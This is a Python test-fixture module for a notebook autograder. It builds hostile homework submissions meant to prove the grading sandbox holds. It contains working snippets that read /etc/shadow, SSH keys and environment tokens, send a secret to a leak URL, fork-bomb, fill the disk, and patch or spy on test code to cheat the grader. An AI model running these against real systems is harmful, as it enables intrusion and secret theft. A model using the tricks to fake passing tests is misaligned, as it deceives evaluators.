"""The hostile corpus: hw1 submissions that attack or break grading, each with its expected outcome.

Beside the attacks it holds the demo's sample class (the reference answers, the
realistic mistakes, the untouched release and a cut-short file), so that one
run shows how ordinary and hostile submissions are graded together.

Every case starts from the reference answers (or the untouched release) and
changes one thing. `failed` names the test cells that must score zero: a grade
id, or ``"from:<grade id>"`` for that test cell and every one after it (a kernel
that died, or whose answers can no longer be read, loses every test after it).
Every other test cell must get full points.

Grading runs the tests in a trusted kernel and the student's code in another
(``course_tools/remote``). An attack on the student's own kernel (patched NumPy
or test helpers, IPython hooks, audit hooks, threads, frames, gc) therefore only
changes what the student's kernel does: each such case pairs the attack with a
wrong answer that passes the visible checks and fails a hidden one, so that in
one kernel the attack would be the only way to full marks. Its expected outcome
is the wrong answer's own zero and full marks elsewhere; where the guard in the
student's kernel can see the attack, its flag is expected too (flags are for a
human: no grade depends on them).
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_output

from course_tools.autograde import GRADED, PARTLY, REJECTED
from course_tools.cells import grade_id, is_test_cell
from course_tools.course import Course
from course_tools.samples import reference_submission, with_variants
from course_tools.variants import load_variants

ASSIGNMENT = "hw1_foundations"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
REPO = Path(__file__).resolve().parents[2]
# The demo's mistaken student: each in-sample variant fails the test cells it declares.
MISTAKES = [v for v in load_variants(REPO / "samples", ASSIGNMENT)
            if v.in_sample and v.verdict == "wrong"]
ANSWER = "sigmoid"  # the solution cell most cases attack, and the test right after it
TEST = "test_sigmoid"
MSE, MSE_TEST = "best_constant_mse", "test_best_constant_mse"
MAE, MAE_TEST = "best_constant_mae", "test_best_constant_mae"

# A wrong sigmoid that passes every visible check of test_sigmoid and fails its hidden
# ones: it is stable but computes in float32 (a relative error near 1e-8, the hidden
# checks ask for 1e-12).
LOW_PRECISION_SIGMOID = '''def sigmoid(x):
    x = np.asarray(x, dtype=float)
    z = np.exp(-np.abs(x)).astype(np.float32)
    return np.where(x >= 0, 1 / (1 + z), z / (1 + z)).astype(float)
'''
# Wrong constants that pass the visible checks only: the visible MSE input has three
# values (the mean is right for it, the median elsewhere is not); the visible MAE inputs
# have three and four values (the median is right for them, the mean for the longer
# hidden ones is not).
MSE_FALLBACK = ("    y = np.asarray(y, dtype=float)\n"
                "    return float(np.mean(y)) if len(y) == 3 else float(np.median(y))\n")
MAE_FALLBACK = ("    y = np.asarray(y, dtype=float)\n"
                "    return float(np.median(y)) if len(y) <= 4 else float(np.mean(y))\n")
# Environment variables set in the grader's environment while the corpus is graded: no
# output may show their values (tests/test_hostile_corpus.py sets and checks them).
SECRET_VARIABLES = ("COURSE_SECRET_TOKEN", "GRADER_TOKEN")


@dataclass
class Context:
    """What the cases need to know about the run: paths to attack, the server to phone."""

    course_root: Path
    reference: nbformat.NotebookNode
    release_text: str
    wrong_sigmoid: str  # a realistic wrong answer that fails test_sigmoid only
    warning_sigmoid: str  # the textbook formula: right values, but overflow warnings
    server_url: str


@dataclass
class Case:
    name: str
    build: Callable[[Context, Path], None]  # writes the submission into the folder
    status: str
    failed: tuple[str, ...] = ()
    flags: tuple[str, ...] = ()  # substrings that must appear among the flags
    reasons: tuple[str, ...] = ()  # substrings that must appear among the reasons
    notes: tuple[str, ...] = ()
    shows: tuple[str, ...] = ()  # substrings the submission's own outputs must contain
    why: str = ""
    extra: dict = field(default_factory=dict)


def corpus_context(repo: Course, course: Course, server_url: str) -> Context:
    """The Context for `course`, whose hw1 is released; answers come from `repo`'s samples."""
    release_path = course.release_dir / ASSIGNMENT / NOTEBOOK
    release_nb = nbformat.read(release_path, as_version=4)
    source_nb = nbformat.read(course.source_dir / ASSIGNMENT / NOTEBOOK, as_version=4)
    variants = {v.name: v for v in load_variants(repo.root / "samples", ASSIGNMENT)}
    return Context(course.root, reference_submission(release_nb, source_nb),
                   release_path.read_text(), variants["sigmoid_clip_inputs"].code,
                   variants["sigmoid_naive_overflow"].code, server_url)


def graded_test_cells(source_nb) -> list:
    return [c for c in source_nb.cells if is_test_cell(c)]


def _cell(nb, name: str):
    return next(c for c in nb.cells if grade_id(c) == name)


def _write(nb, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / NOTEBOOK)


def inject(code: str, wrong: bool | str = False, at_end: str = ""
           ) -> Callable[[Context, Path], None]:
    """A new cell with `code` right after the sigmoid answer (`wrong`: with a wrong sigmoid,
    the realistic one or the code given), and `at_end` as a last cell. ``{root}`` and
    ``{url}`` in `code` become the course folder and the recording server's address."""
    def build(ctx: Context, folder: Path) -> None:
        nb = nbformat.from_dict(ctx.reference)
        answer = _cell(nb, ANSWER)
        if wrong:
            answer.source = wrong if isinstance(wrong, str) else ctx.wrong_sigmoid
        # Only these two placeholders: the code's own braces stay as they are.
        filled = code.replace("{root}", str(ctx.course_root)).replace("{url}", ctx.server_url)
        nb.cells.insert(nb.cells.index(answer) + 1, new_code_cell(filled))
        if at_end:
            nb.cells.append(new_code_cell(at_end))
        _write(nb, folder)
    return build


def answer(grade_id: str, code: str, before: str = "") -> Callable[[Context, Path], None]:
    """The reference with the answer cell `grade_id` replaced by `code` (and `before`, a
    cell of the student's own, just before it)."""
    def build(ctx: Context, folder: Path) -> None:
        nb = nbformat.from_dict(ctx.reference)
        cell = _cell(nb, grade_id)
        cell.source = code
        if before:
            nb.cells.insert(nb.cells.index(cell), new_code_cell(before))
        _write(nb, folder)
    return build


def edit(change: Callable[[Context, nbformat.NotebookNode], None]
         ) -> Callable[[Context, Path], None]:
    def build(ctx: Context, folder: Path) -> None:
        nb = nbformat.from_dict(ctx.reference)
        change(ctx, nb)
        _write(nb, folder)
    return build


def _perfect(ctx: Context, folder: Path) -> None:
    _write(nbformat.from_dict(ctx.reference), folder)


def _mistakes(ctx: Context, folder: Path) -> None:
    _write(with_variants(ctx.reference, MISTAKES), folder)


def _blank(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(ctx.release_text)


def _malformed(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(ctx.release_text[: len(ctx.release_text) // 3])


def _edited_test(ctx: Context, nb) -> None:
    _cell(nb, ANSWER).source = ctx.wrong_sigmoid
    _cell(nb, TEST).source = "pass  # nothing to see here"


def _deleted_test(ctx: Context, nb) -> None:
    _cell(nb, ANSWER).source = ctx.wrong_sigmoid
    nb.cells.remove(_cell(nb, TEST))


def _deleted_answer(ctx: Context, nb) -> None:
    nb.cells.remove(_cell(nb, ANSWER))


def _deleted_answer_and_test(ctx: Context, nb) -> None:
    nb.cells.remove(_cell(nb, ANSWER))
    nb.cells.remove(_cell(nb, TEST))


def _deleted_written_answer(ctx: Context, nb) -> None:
    nb.cells.remove(_cell(nb, "answer_timing"))


def _old_format(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.convert(nbformat.from_dict(ctx.reference), 3), folder / NOTEBOOK,
                   version=3)


def _renamed(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.from_dict(ctx.reference), folder / "hw1_foundations (final).ipynb")


def _no_notebook(ctx: Context, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "answers.txt").write_text("my answers are in my head\n")


def _always_equal(ctx: Context, nb) -> None:
    _cell(nb, ANSWER).source = (
        "class Anything(float):\n"
        "    def __eq__(self, other):\n"
        "        return True\n\n"
        "    __hash__ = float.__hash__\n\n\n"
        "def sigmoid(x):\n"
        "    return Anything(0.5)\n"
    )


def _stored_output(ctx: Context, folder: Path) -> None:
    nb = nbformat.from_dict(ctx.reference)
    _cell(nb, ANSWER).outputs = [new_output("stream", name="stdout", text="x" * (300 << 20))]
    _write(nb, folder)


def _extra_files(ctx: Context, folder: Path) -> None:
    _perfect(ctx, folder)
    fake = "def assert_close(*args, **kwargs):\n    pass\n"
    (folder / "utils").mkdir()
    (folder / "utils" / "__init__.py").write_text("")
    (folder / "utils" / "testing.py").write_text(fake)
    (folder / "numpy.py").write_text("allclose = lambda *a, **k: True\n")
    (folder / "notes.txt").write_text("my notes\n")


def _symlink(ctx: Context, folder: Path) -> None:
    _perfect(ctx, folder)
    os.symlink(ctx.course_root / "source" / ASSIGNMENT / NOTEBOOK, folder / "solutions.ipynb.txt")


def _closure_cell(ctx: Context, folder: Path) -> None:
    inject(CLOSURE_CELL, wrong=ctx.warning_sigmoid)(ctx, folder)


def _no_warnings_off(ctx: Context, folder: Path) -> None:
    inject(NO_WARNINGS_OFF, wrong=ctx.warning_sigmoid)(ctx, folder)


def _collector(ctx: Context, folder: Path) -> None:
    """The collector defined early (its thread samples while the tests run), and called by
    the answer the last test calls."""
    inject(COLLECTOR, at_end=COLLECTOR_REPORT)(ctx, folder)
    nb = nbformat.read(folder / NOTEBOOK, as_version=4)
    _cell(nb, MAE).source = COLLECTOR_ANSWER
    _write(nb, folder)


SECRET_READS = """
import glob, os
for path in ["{root}/source/hw1_foundations/hw1_foundations.ipynb", "{root}/gradebook.db",
             "{root}/nbgrader_config.py", os.path.expanduser("~/.bash_history"),
             "/root/.bash_history", "/etc/shadow", "/etc/gshadow", "/etc/sudoers",
             "/proc/1/root/etc/shadow", *glob.glob("/etc/ssl/private/*"),
             *glob.glob("/etc/ssh/ssh_host_*_key")]:
    try:
        print(open(path, errors="replace").read())
    except OSError as exc:
        print("cannot read", path, exc)
print(os.listdir("/"), os.listdir("{root}") if os.path.isdir("{root}") else "no course folder")
print(In)
"""

READ_ENVIRONMENT = """
import glob, os
print(dict(os.environ))
for path in ["/proc/1/environ", "/proc/1/cmdline", *glob.glob("/proc/[0-9]*/environ"),
             *glob.glob("/proc/[0-9]*/cmdline")]:
    try:
        print(path, open(path, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
    except OSError as exc:
        print("cannot read", path, exc)
"""

WRITES = """
for path in ["{root}/pwned.txt", "{root}/source/pwned.txt", "{root}/submitted/pwned.txt"]:
    try:
        open(path, "w").write("pwned")
    except OSError as exc:
        print("cannot write", path, exc)
open("note-in-scratch.txt", "w").write("a file of my own is fine")
"""

NETWORK = """
import urllib.request
try:
    urllib.request.urlopen("{url}/leak?secret=1", timeout=5)
    print("request went through")
except OSError as exc:
    print("no network:", exc)
"""

# Make the visible and hidden comparisons pass whatever the answer (in one kernel).
ALWAYS_CLOSE = ("lambda a, b, *args, **kwargs: "
                "np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)")

FORGE_GUARD_CHECK = f"""
import numpy as np
import course_tools.guard
np.isclose = {ALWAYS_CLOSE}
course_tools.guard.check = lambda: []
"""

FORGE_GUARD_JSON = f"""
import json
import numpy as np
np.isclose = {ALWAYS_CLOSE}
_real_dumps = json.dumps


def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "findings" in obj:
        obj = {{"findings": []}}
    return _real_dumps(obj, *args, **kwargs)


json.dumps = _dumps
"""

AST_BLANKER = """
import ast


class _Blank(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "assert_close":
            return ast.Pass()
        return node


_blank = _Blank()


def _before(info):
    if "assert" in (info.raw_cell or ""):
        get_ipython().ast_transformers.append(_blank)


def _after(result):
    if any(t is _blank for t in get_ipython().ast_transformers):
        get_ipython().ast_transformers.remove(_blank)


for _callback in (_before, _after):
    _callback.__module__ = "IPython.core.events"
get_ipython().events.register("pre_run_cell", _before)
get_ipython().events.register("post_run_cell", _after)
"""

CLEAR_ERROR = """
def _forgive(result):
    result.error_in_exec = None
    result.error_before_exec = None


_forgive.__module__ = "IPython.core.events"
get_ipython().events.register("post_run_cell", _forgive)
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
"""

# Swaps the test helper whenever code other than the guard's is compiled (a test cell
# starting, in one kernel) and puts it back when the guard's code is: in one kernel, the
# tests would pass and the guard's before/after snapshots would see nothing.
AUDIT_HOOK = """
import sys
import utils.testing

_real_assert_close = utils.testing.assert_close


def _no_check(*args, **kwargs):
    return None


def _hook(event, args):
    if event != "compile" or not args or not isinstance(args[0], (str, bytes)):
        return
    source = args[0] if isinstance(args[0], str) else args[0].decode(errors="replace")
    helper = _real_assert_close if "course_tools.guard" in source else _no_check
    utils.testing.assert_close = helper
    get_ipython().user_ns["assert_close"] = helper


sys.addaudithook(_hook)
"""

ISCLOSE_CODE = """
import numpy as np
np.isclose._implementation.__code__ = (
    lambda a, b, rtol=1e-05, atol=1e-08, equal_nan=False: (a == a) | True).__code__
"""

NUMPY_CLASS = f"""
import types
import numpy as np


class _Lying(types.ModuleType):
    def __getattribute__(self, name):
        if name in ("isclose", "allclose"):
            return {ALWAYS_CLOSE}
        return super().__getattribute__(name)


np.__class__ = _Lying
"""

CLOSURE_CELL = """
from utils.testing import no_warnings


def _anything_goes(*args, **kwargs):
    yield


no_warnings.__closure__[0].cell_contents = _anything_goes
"""

# The step the student's kernel takes for `with no_warnings():` switched off: it runs in
# the student's process, so this cannot be prevented, only seen.
NO_WARNINGS_OFF = """
import contextlib
from course_tools.remote import student_side

student_side.STEPS["no_warnings"] = lambda params, namespace: contextlib.nullcontext()
"""

HELPER_CODE_VIA_FRAME = f"""def best_constant_mae(y):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        helper = frame.f_globals.get("_mae")
        if callable(helper):
            helper.__code__ = (lambda y, c: 0.0).__code__
            break
        frame = frame.f_back
{MAE_FALLBACK}"""

STEAL_FROM_FRAMES = f"""def best_constant_mse(y):
    import sys
    frames = [sys._getframe(1), *sys._current_frames().values()]
    for frame in frames:
        while frame is not None:
            for scope in (frame.f_locals, frame.f_globals):
                if "_best" in scope:
                    return float(scope["_best"])
            frame = frame.f_back
{MSE_FALLBACK}"""

STEAL_FROM_GC = f"""def best_constant_mse(y):
    import gc
    for obj in gc.get_objects():
        if type(obj) is dict and "_best" in obj:
            return float(obj["_best"])
{MSE_FALLBACK}"""

REBIND_REFERENCE = """def sigmoid(x):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        if "_expit" in frame.f_globals:
            frame.f_globals["_expit"] = sigmoid  # the test would compare sigmoid with itself
        frame = frame.f_back
    x = np.asarray(x, dtype=float)
    z = np.exp(-np.abs(x)).astype(np.float32)
    return np.where(x >= 0, 1 / (1 + z), z / (1 + z)).astype(float)
"""

THREAD = """
import threading
import time
import utils.testing


def _keep_patching():
    quiet = lambda *args, **kwargs: None  # noqa: E731
    while True:
        utils.testing.assert_close = quiet
        get_ipython().user_ns["assert_close"] = quiet
        time.sleep(0.005)


threading.Thread(target=_keep_patching, daemon=True).start()
"""

TIMER_SIGMOID = """import threading
import time
import utils.testing


def _swap_helpers():
    quiet = lambda *args, **kwargs: None  # noqa: E731
    utils.testing.assert_close = quiet
    get_ipython().user_ns["assert_close"] = quiet


def sigmoid(x):
    threading.Timer(0.001, _swap_helpers).start()  # fires while the test is running
    time.sleep(0.01)
    x = np.asarray(x, dtype=float)
    z = np.exp(-np.abs(x)).astype(np.float32)
    return np.where(x >= 0, 1 / (1 + z), z / (1 + z)).astype(float)
"""

# Prints base64 of everything a kernel could know of the cells it ran; the test checks
# from outside that no hidden test is in it.
HIDDEN_SOURCE = """
_cells_seen = []


def _remember_cell(info):
    _cells_seen.append(info.raw_cell)


_remember_cell.__module__ = "IPython.core.events"
get_ipython().events.register("pre_run_cell", _remember_cell)
"""
HIDDEN_SOURCE_DUMP = """
import base64
import linecache
import sys

_texts = list(_cells_seen) + list(In)
_texts += list(get_ipython().history_manager.input_hist_raw)
for _name, _entry in list(linecache.cache.items()):
    if not str(_name).startswith((sys.prefix, sys.base_prefix)) and len(_entry) > 2:
        _texts.append("".join(_entry[2]))
_text = "\\n".join(_texts)
print("seen", len(_texts), "sources")
print("b64:" + base64.b64encode(_text.encode()).decode())
"""

# Collects whatever its process holds that looks like a test, during the tests (in the
# answer the last test calls, and in a thread that the last cell reports), and prints it
# plain and base64-encoded.
COLLECTOR = r'''
import base64
import gc
import glob
import os
import re
import sys
import threading
import time

_LOOKS_LIKE_A_TEST = re.compile(r"assert|HIDDEN|expected|_optimum|_best|minimize|expit|"
                                r"default_rng|TOKEN|SECRET|grade")


def _texts_in(value, found):
    if isinstance(value, str):
        if _LOOKS_LIKE_A_TEST.search(value):
            found.add(value[:4000])
    elif isinstance(value, bytes):
        _texts_in(value[:4000].decode(errors="replace"), found)
    elif type(value).__name__ == "code":
        _texts_in(repr(value.co_consts), found)
        _texts_in(" ".join(value.co_names), found)


def _collect(tag):
    found = set()
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                for key, value in list(obj.items()):
                    _texts_in(key, found)
                    _texts_in(value, found)
                    if isinstance(key, str) and _LOOKS_LIKE_A_TEST.search(key):
                        found.add(f"{key} = {value!r}"[:4000])
            elif isinstance(obj, (list, tuple, set)):
                for value in list(obj):
                    _texts_in(value, found)
            elif type(obj).__name__ == "function":
                _texts_in(obj.__code__, found)
        except Exception:
            pass
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            for name, value in list({**frame.f_globals, **frame.f_locals}.items()):
                _texts_in(name, found)
                _texts_in(value, found)
                if isinstance(value, (int, float)):
                    found.add(f"{name} = {value!r}")
            _texts_in(frame.f_code, found)
            frame = frame.f_back
    import linecache
    for name, entry in list(linecache.cache.items()):
        if len(entry) > 2 and not str(name).startswith((sys.prefix, sys.base_prefix)):
            found.add("".join(entry[2])[:4000])
    shell = get_ipython()
    found.update(str(cell)[:4000] for cell in shell.user_ns.get("In", []))
    found.update(str(cell)[:4000] for cell in shell.history_manager.input_hist_raw)
    found.update(f"{k}={v}" for k, v in os.environ.items())
    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
        try:
            found.add(open(path, "rb").read()[:4000].replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
            found.add(f"fd {fd} -> {target}")
            if os.path.isfile(target):
                found.add(open(target, "rb").read(4000).decode(errors="replace"))
        except OSError:
            pass
    return f"collected {tag}: {len(found)} items", "\n".join(sorted(found))[:100_000]


def _show(title, text):
    print(title)
    print("plain:", text[:30_000])
    print("b64:" + base64.b64encode(text.encode()).decode())


def _during_the_tests():
    for _ in range(3):
        time.sleep(1)
        _by_the_thread.append(_collect("by a thread"))


_by_the_thread = []

_collected = False


_sampler = threading.Thread(target=_during_the_tests, daemon=True)
_sampler.start()
'''
# The report waits for the thread's samples: on a quick machine the remaining cells can
# finish before its first one.
COLLECTOR_REPORT = """
_sampler.join(timeout=60)
for _title, _text in _by_the_thread:
    _show(_title, _text)
"""
COLLECTOR_ANSWER = '''def best_constant_mae(y):
    """A constant c minimising the mean absolute error to y (a median)."""
    global _collected
    if not _collected:  # once: a whole scan takes a second or two
        _collected = True
        _show(*_collect("in an answer"))
    return float(np.median(y))
'''

FAKE_DONE = """
import glob
import json
import os
import stat

_lines = [{"event": "done", "flags": []},
          {"event": "cell", "index": 22, "outputs": [], "status": "ok", "execution_count": 1},
          {"event": "stopped", "reason": "made up"}, {"event": "failed", "reason": "made up"}]
_payload = "".join(json.dumps(line) + "\\n" for line in _lines).encode()
_written = []
for _path in ["/proc/1/fd/1", "/proc/1/fd/2", *glob.glob("/proc/[0-9]*/fd/*")]:
    try:
        _kind = os.stat(_path).st_mode
        if not (stat.S_ISFIFO(_kind) or stat.S_ISREG(_kind) or stat.S_ISCHR(_kind)):
            continue  # the kernel's own sockets: see channel-garbage
        _fd = os.open(_path, os.O_WRONLY | os.O_NONBLOCK)
        try:
            os.write(_fd, _payload)
            _written.append(_path)
        finally:
            os.close(_fd)
    except OSError:
        pass
print("fake results written to", len(_written), "places")
"""

CHANNEL_GARBAGE = """
import course_tools.remote.student_kernel as _kernel_side
_kernel_side._peer.transport.sock.sendall(b'{"event": "done", "flags": []}\\n')
"""

FILL_DISK = """
import os

_chunk = b"x" * (1 << 20)


def _fill(folder):
    path = os.path.join(folder, "fill.bin")
    written, outcome = 0, "no limit"
    try:
        with open(path, "wb", buffering=0) as handle:
            while written < (1 << 30):
                handle.write(_chunk)
                written += len(_chunk)
    except OSError as exc:
        outcome = exc.strerror
    try:
        os.remove(path)
    except OSError:
        pass
    print(f"fill {folder}: {written >> 20} MiB, {outcome}")


_folders = [os.getcwd(), "/tmp", "/dev/shm", "/", "/dev", "/course-files"]
for _root, _dirs, _files in os.walk("/tmp"):
    if "kernel.json" in _files:
        _folders.append(_root)
for _folder in _folders:
    _fill(_folder)
"""


# Where FILL_DISK writes; tests/test_hostile_corpus.py reads how much each took.
FILL_WRITABLE = ("/submission", "/tmp", "/dev/shm")
FILL_READ_ONLY = ("/", "/dev", "/course-files")


WRONG_FAILS = (TEST,)
OWN_KERNEL = ("the attack changes only the student's own kernel; the trusted kernel judges "
              "the wrong answer, which fails its own test")

CASES = [
    Case("perfect", _perfect, GRADED, why="the reference answers"),
    Case("mistakes", _mistakes, GRADED,
         failed=tuple(sorted(set().union(*(v.expect_fail for v in MISTAKES)))),
         why="realistic mistakes lose their own tests' points and nothing is flagged"),
    Case("blank", _blank, GRADED, failed=("from:test_mlp_parameter_count",),
         why="the release, untouched"),
    Case("infinite-loop", inject("while True:\n    pass"), PARTLY, reasons=("cell limit",),
         why="a runaway cell is interrupted; the notebook goes on"),
    Case("sleep", inject("import time\ntime.sleep(3600)"), PARTLY, reasons=("cell limit",)),
    Case("memory", inject("import numpy as np\nblocks = []\nfor _ in range(50):\n"
                          "    blocks.append(np.ones(2**27))  # 1 GiB each, 50 GiB in all"),
         PARTLY, failed=(f"from:{TEST}",), reasons=("memory limit", "kernel died")),
    Case("fork-bomb", inject("import os\nwhile True:\n    try:\n        os.fork()\n"
                             "    except OSError:\n        pass"),
         PARTLY, failed=(f"from:{TEST}",), reasons=("process limit", "stopped answering"),
         notes=("processes running",),
         why="forked copies of the kernel share its connections: the kernel is not trusted after"),
    Case("exit", inject("import os\nos._exit(1)"), PARTLY, failed=(f"from:{TEST}",),
         reasons=("kernel died",)),
    Case("network", inject(NETWORK), GRADED, why="the request must never reach the server"),
    Case("read-secrets", inject(SECRET_READS), GRADED,
         shows=("cannot read /etc/shadow", "cannot read /etc/sudoers", "no course folder"),
         why="nothing of source/, the gradebook, the home folder or root-only files may reach "
             "an output"),
    Case("read-environment", inject(READ_ENVIRONMENT), GRADED, shows=("/proc/1/environ",),
         why="tokens in the grader's environment stay out of the sandbox and its command line"),
    Case("write-course", inject(WRITES), GRADED, why="no file may appear outside the scratch copy"),
    Case("fill-disk", inject(FILL_DISK), GRADED, shows=("fill /tmp/course-grading-",),
         why="the writable folders are tmpfs of the disk limit; the rest is read-only"),
    Case("fake-done", inject(FAKE_DONE), GRADED, shows=("fake results written to",),
         why="no fd the kernel can reach leads to the runner's results: grading goes on"),
    Case("channel-garbage", inject(CHANNEL_GARBAGE), GRADED, failed=(f"from:{TEST}",),
         flags=("malformed message",),
         why="the student's kernel broke its own channel: its answers cannot be read after "
             "it (every test after fails at once, none hangs), and the runner says why"),
    Case("patch-numpy",
         inject("import numpy as np\nnp.allclose = lambda *a, **k: True", wrong=True),
         GRADED, failed=WRONG_FAILS, flags=("numpy.allclose was replaced",), why=OWN_KERNEL),
    Case("patch-helper", inject("import utils.testing\n"
                                "utils.testing.assert_close = lambda *a, **k: None\n"
                                "assert_close = utils.testing.assert_close", wrong=True),
         GRADED, failed=WRONG_FAILS, flags=("assert_close",), why=OWN_KERNEL),
    Case("custom-exception-handler",
         inject("get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)", wrong=True),
         GRADED, failed=WRONG_FAILS, flags=("custom exception handler",), why=OWN_KERNEL),
    Case("always-equal", edit(_always_equal), GRADED, failed=WRONG_FAILS, flags=("__eq__",),
         why="the value crosses to the trusted kernel as a plain float: its __eq__ stays behind"),
    Case("forge-guard-check", inject(FORGE_GUARD_CHECK, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS,
         why="a silenced guard hides its flags and changes no grade"),
    Case("forge-guard-json", inject(FORGE_GUARD_JSON, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS, flags=("numpy.isclose was replaced", "json.dumps was replaced"),
         why="the guard bound json.dumps before notebook code ran"),
    Case("ast-blanker", inject(AST_BLANKER, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS, flags=("added an IPython 'pre_run_cell' callback",),
         why="test cells never run in the student's kernel, so there is nothing to blank"),
    Case("clear-error", inject(CLEAR_ERROR, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS, flags=("added an IPython 'post_run_cell' callback",
                                    "custom exception handler"), why=OWN_KERNEL),
    Case("audit-hook", inject(AUDIT_HOOK, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS, flags=("added an audit hook",),
         why="the tests never run in the student's kernel; the guard's own audit hook, there "
             "before any notebook code, sees the student's being added"),
    Case("isclose-code", inject(ISCLOSE_CODE, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS, flags=("isclose._implementation.__code__ was replaced",),
         why=OWN_KERNEL),
    Case("numpy-class", inject(NUMPY_CLASS, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS, flags=("the class of module numpy was replaced",), why=OWN_KERNEL),
    Case("closure-cell", _closure_cell, GRADED, failed=WRONG_FAILS,
         flags=("no_warnings.__closure__[0] was replaced",),
         why="no_warnings takes its effect in the student's kernel by the runner's own step, "
             "not through the student's copy of the helper"),
    Case("no-warnings-off", _no_warnings_off, GRADED,
         flags=("student_side.STEPS['no_warnings'] was replaced",),
         why="the known limit of a student-side step (README, grading integrity): switched "
             "off in the student's own process, it lets the textbook formula (right values, "
             "overflow warnings) pass test_sigmoid; the guard's flag tells a human"),
    Case("helper-code-via-frame", answer(MAE, HELPER_CODE_VIA_FRAME), GRADED,
         failed=(MAE_TEST,), why="the test's helper _mae lives in the trusted kernel only"),
    Case("steal-from-frames", answer(MSE, STEAL_FROM_FRAMES), GRADED, failed=(MSE_TEST,),
         why="no frame of the student's kernel holds the test's expected value"),
    Case("steal-from-gc", answer(MSE, STEAL_FROM_GC), GRADED, failed=(MSE_TEST,),
         why="no object of the student's kernel holds the test's expected value"),
    Case("rebind-reference", answer(ANSWER, REBIND_REFERENCE), GRADED, failed=WRONG_FAILS,
         why="the test's reference function is not in any namespace of the student's kernel"),
    Case("thread-during-tests", inject(THREAD, wrong=LOW_PRECISION_SIGMOID), GRADED,
         failed=WRONG_FAILS, flags=("utils.testing.assert_close was replaced",), why=OWN_KERNEL),
    Case("timer-mid-test", answer(ANSWER, TIMER_SIGMOID), GRADED, failed=WRONG_FAILS,
         flags=("utils.testing.assert_close was replaced",), why=OWN_KERNEL),
    Case("hidden-source", inject(HIDDEN_SOURCE, at_end=HIDDEN_SOURCE_DUMP), GRADED,
         flags=("added an IPython 'pre_run_cell' callback",), shows=("b64:",),
         why="raw_cell, In, the history and linecache hold only what ran in the student's "
             "kernel: no test cell"),
    Case("collector", _collector, GRADED,
         shows=("collected in an answer", "collected by a thread", "b64:"),
         why="gc, frames, linecache, history, /proc, the environment and open files of the "
             "student's kernel hold no hidden test and no expected value"),
    Case("edited-test", edit(_edited_test), GRADED, failed=(TEST,), flags=("was edited",)),
    Case("deleted-test", edit(_deleted_test), GRADED, failed=(TEST,), flags=("was deleted",)),
    Case("deleted-answer", edit(_deleted_answer), GRADED, failed=(TEST,),
         flags=("answer cell sigmoid was deleted",),
         why="the missing answer's test fails; tanh_from_sigmoid, built on it, is tested with "
             "a stand-in sigmoid, so the mistake costs points once"),
    Case("deleted-answer-and-test", edit(_deleted_answer_and_test), GRADED, failed=(TEST,),
         flags=("test cell test_sigmoid was deleted",),
         why="nbgrader itself cannot put a test back when the cell before it is gone too"),
    Case("deleted-written-answer", edit(_deleted_written_answer), GRADED,
         flags=("answer cell answer_timing was deleted (put back as released)",)),
    Case("malformed", _malformed, REJECTED, reasons=("not valid JSON",)),
    Case("old-format", _old_format, REJECTED, reasons=("format 3",)),
    Case("renamed", _renamed, REJECTED, reasons=("renamed?",)),
    Case("no-notebook", _no_notebook, REJECTED, reasons=("none of the expected notebooks",)),
    Case("stored-300MB", _stored_output, REJECTED, reasons=("MB in all, more than",),
         why="a submission larger than the size limit is rejected before any grading"),
    Case("printed-300MB", inject("for _ in range(300):\n    print('x' * 2**20)"), GRADED,
         notes=("output cut",)),
    Case("extra-files", _extra_files, GRADED, flags=("utils/testing.py", "numpy.py"),
         notes=("notes.txt",)),
    Case("symlink", _symlink, REJECTED, reasons=("symbolic links",)),
]
